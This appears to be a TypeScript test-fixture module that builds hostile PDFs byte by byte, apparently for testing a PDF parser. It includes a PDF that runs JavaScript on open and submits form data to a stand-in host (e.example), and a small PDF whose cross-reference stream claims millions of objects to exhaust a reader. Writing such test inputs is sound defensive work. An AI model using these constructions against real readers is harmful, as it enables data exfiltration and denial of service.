import { deflateSync } from "node:zlib";

export type RawPdf = {
  /** `pages` is the PDF's real number of pages. `count` is the number that the PDF's page tree claims. */
  pages?: number;
  count?: number;
  /** The pages in the PDF's page tree, numbered from 0. A page can occur several times. */
  order?: number[];
  /** Additional entries of the PDF's catalog, such as an action, and the objects that they refer to. */
  catalog?: string;
  objects?: (string | Buffer)[];
  /** Bytes between the PDF's header and its first object. PDF readers ignore these bytes. */
  preamble?: string;
  /** Additional entries of the PDF's trailer. */
  trailer?: string;
};

/** Returns a PDF written byte by byte. The additional objects have numbers from 10. */
export function rawPdf({
  pages = 1,
  order = Array.from({ length: pages }, (_, n) => n),
  count = order.length,
  catalog = "",
  objects = [],
  preamble = "",
  trailer = "",
}: RawPdf = {}): Buffer {
  const kids = Array.from({ length: pages }, (_, n) => 1000 + n);
  const numbered: [number, string | Buffer][] = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [
      2,
      `<< /Type /Pages /Kids [${order.map((n) => `${1000 + n} 0 R`).join(" ")}] /Count ${count} >>`,
    ],
    ...objects.map((object, n): [number, string | Buffer] => [10 + n, object]),
    ...kids.map((n): [number, string] => [
      n,
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 640 360] >>",
    ]),
  ];
  const parts: Buffer[] = [Buffer.from(`%PDF-1.7\n${preamble}`, "latin1")];
  const offsets = new Map<number, number>();
  let length = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  for (const [number, body] of numbered) {
    offsets.set(number, length);
    add(
      Buffer.concat([
        Buffer.from(`${number} 0 obj\n`),
        Buffer.from(body),
        Buffer.from("\nendobj\n"),
      ]),
    );
  }
  const at = length;
  const sections = [...offsets].map(
    ([number, offset]) => `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`,
  );
  const size = Math.max(...offsets.keys()) + 1;
  add(
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \n${sections.join("")}trailer\n<< /Size ${size} /Root 1 0 R ${trailer.replace("{xref}", String(at))} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** Returns a PDF stream object whose content decompresses to `bytes` zeros. */
export function flateStream(bytes: number, members = ""): Buffer {
  const packed = deflateSync(Buffer.alloc(bytes));
  return Buffer.concat([
    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode ${members} >>\nstream\n`),
    packed,
    Buffer.from("\nendstream"),
  ]);
}

/** Returns a PDF deck that tries to run a script when a reader opens it. */
export function scriptedPdf(script = 'app.alert("aperto"); this.submitForm("https://e.example")') {
  return rawPdf({
    catalog: "/OpenAction 10 0 R /AA << /WC 10 0 R >> /Names << /JavaScript 11 0 R >>",
    objects: [
      `<< /S /JavaScript /JS (${script.replaceAll(/([()\\])/g, "\\$1")}) >>`,
      "<< /Names [(a) 10 0 R] >>",
    ],
  });
}

/**
 * Returns a small PDF that takes a reader seconds: its cross-reference stream claims a million objects `sections`
 * times. `index` is the spelling of the key in the file.
 */
export function pdfOfClaims({ sections = 40, index = "/Index" } = {}): Buffer {
  const body = [
    "%PDF-1.7\n",
    "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
    "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 640 360] >>\nendobj\n",
  ].join("");
  const claims = "0 1000000 ".repeat(sections);
  const members = `/Type /XRef /Size 1000000 /Root 1 0 R /W [1 0 0] ${index} [${claims}]`;
  return Buffer.concat([
    Buffer.from(`${body}4 0 obj\n`),
    flateStream(sections * 1_000_000, members),
    Buffer.from(`\nendobj\nstartxref\n${body.length}\n%%EOF\n`),
  ]);
}
